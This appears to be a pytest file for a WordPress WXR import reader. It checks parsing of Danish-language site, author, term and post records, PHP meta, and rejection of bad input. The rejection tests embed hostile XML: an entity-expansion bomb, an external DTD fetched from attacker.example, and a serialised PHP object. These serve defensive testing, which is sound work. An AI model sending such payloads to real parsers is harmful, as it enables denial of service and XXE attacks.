"""The WXR reader: every kind of record, Danish text, CDATA, forbidden characters, PHP
meta, hostile XML."""

import io

import pytest

from samskab.wpimport.wxr import Reader, WXRError, unserialize

from .wxr_fixture import build


def _read(data: bytes):
    reader = Reader(io.BytesIO(data))
    records = list(reader)
    return reader, records


def test_reads_site_authors_terms_and_items():
    reader, records = _read(build())
    kinds = [k for k, _o in records]
    assert kinds.count("site") == 1
    site = next(o for k, o in records if k == "site")
    assert site.title == "Sund By Netværket"
    assert site.language == "da-DK"
    authors = [o for k, o in records if k == "author"]
    assert [a.login for a in authors] == ["redaktoer", "gaest", "ubekraeftet"]
    assert authors[0].display_name == "Søren Ærø"
    terms = {(o.kind, o.slug): o for k, o in records if k == "term"}
    assert terms[("category", "trivsel-og-faellesskab")].name == "Trivsel & fællesskab"
    assert terms[("category", "trivsel-og-faellesskab")].parent == "folkesundhed"
    assert terms[("post_tag", "boern")].name == "Børn"
    items = {o.post_id: o for k, o in records if k == "item"}
    types = {i.post_type for i in items.values()}
    assert types == {"post", "page", "attachment", "revision", "sag"}
    post = items[10]
    assert post.title == "Netværksmøde i Køge – “trivsel” på dagsordenen"
    assert "<!-- wp:paragraph -->" in post.content  # CDATA kept as text, comments and all
    assert post.excerpt == "Kontaktpersonerne mødtes i Køge."
    assert post.slug == "netvaerksmoede-i-koege"
    assert post.link == "https://sundby.example/2014/05/20/netvaerksmoede-i-koege/"
    assert post.post_date_gmt == "2014-05-20 10:30:00"
    assert ("post_tag", "boern", "Børn") in post.terms
    assert post.meta["_thumbnail_id"] == "101"
    assert [c.id for c in post.comments] == ["1", "2", "3"]
    assert post.comments[1].parent == "1"
    assert items[101].attachment_url.endswith("/2014/05/moede.jpg")
    assert items[101].meta_value("_wp_attachment_metadata")["width"] == 1200
    assert items[21].parent == 20


def test_forbidden_control_characters_are_dropped_and_counted():
    reader, records = _read(build())
    items = {o.post_id: o for k, o in records if k == "item"}
    assert items[13].title == "Styrgruppen mødes"
    assert items[13].content == "<p>Referat følger.</p>"
    assert reader.dropped == 3


def test_entities_are_never_expanded_and_dtds_refused():
    bomb = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<rss><channel><item><title>&b;</title></item></channel></rss>"""
    with pytest.raises(WXRError):
        _read(bomb)
    external = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss><channel><title>x</title></channel></rss>"""
    with pytest.raises(WXRError):
        _read(external)


def test_not_an_export_is_refused():
    with pytest.raises(WXRError):
        _read(b"<html><body>hi</body></html>")
    with pytest.raises(WXRError):
        _read(b"")


def test_php_serialised_values():
    assert unserialize('a:2:{i:0;s:3:"lav";i:1;s:5:"høj";}'.replace("5:", "4:")) == {
        0: "lav",
        1: "høj",
    }
    assert unserialize("plain text") == "plain text"
    # Objects are refused (never instantiated): the raw text comes back.
    obj = 'O:8:"stdClass":0:{}'
    assert unserialize(obj) == obj
